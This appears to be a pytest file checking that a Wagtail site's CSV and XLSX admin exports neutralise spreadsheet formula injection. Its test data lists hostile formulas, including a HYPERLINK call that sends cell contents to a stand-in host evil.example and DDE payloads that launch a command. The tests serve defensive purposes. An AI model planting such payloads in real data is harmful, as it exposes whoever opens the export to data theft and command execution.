"""What people typed is never run by the program that opens an export."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect

from commons.safety.spreadsheets import harmless
from tests.commons.accounts.people import person

FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1;"انقروا")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200f=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_words(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["عنوان عادي", "2024-05-01", "10% شباب", "", 5, -5, None, True])
def test_all_else_stays(value):
    assert harmless(value) == value


def cells(response, kind) -> list[str]:
    body = b"".join(response.streaming_content)
    if kind == "csv":
        return [cell for row in csv.reader(StringIO(body.decode())) for cell in row]
    rows = load_workbook(BytesIO(body)).active.iter_rows()
    found = [cell for row in rows for cell in row]
    assert not [cell for cell in found if cell.data_type == "f"]
    return [cell.value for cell in found if isinstance(cell.value, str)]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(1)"])
def test_exports_of_the_admin(client, world, kind, text):
    """Two reports and a list: whatever Wagtail exports goes the same way."""
    page = world.article(text, slug="formula")
    boss = person("boss", "administrator")
    boss.display_name = text
    boss.save()
    page.locked, page.locked_by = True, boss
    page.save()
    Redirect.objects.create(old_path="/old", redirect_link=text)
    client.force_login(boss)
    for address in ("locked", "aging-pages", "site-history"):
        response = client.get(f"/admin/reports/{address}/", {"export": kind})
        found = cells(response, kind)
        assert text not in found, address
        assert address == "site-history" or f"'{text}" in found, address
    found = cells(client.get("/admin/redirects/", {"export": kind}), kind)
    assert text not in found
    assert f"'{text}" in found
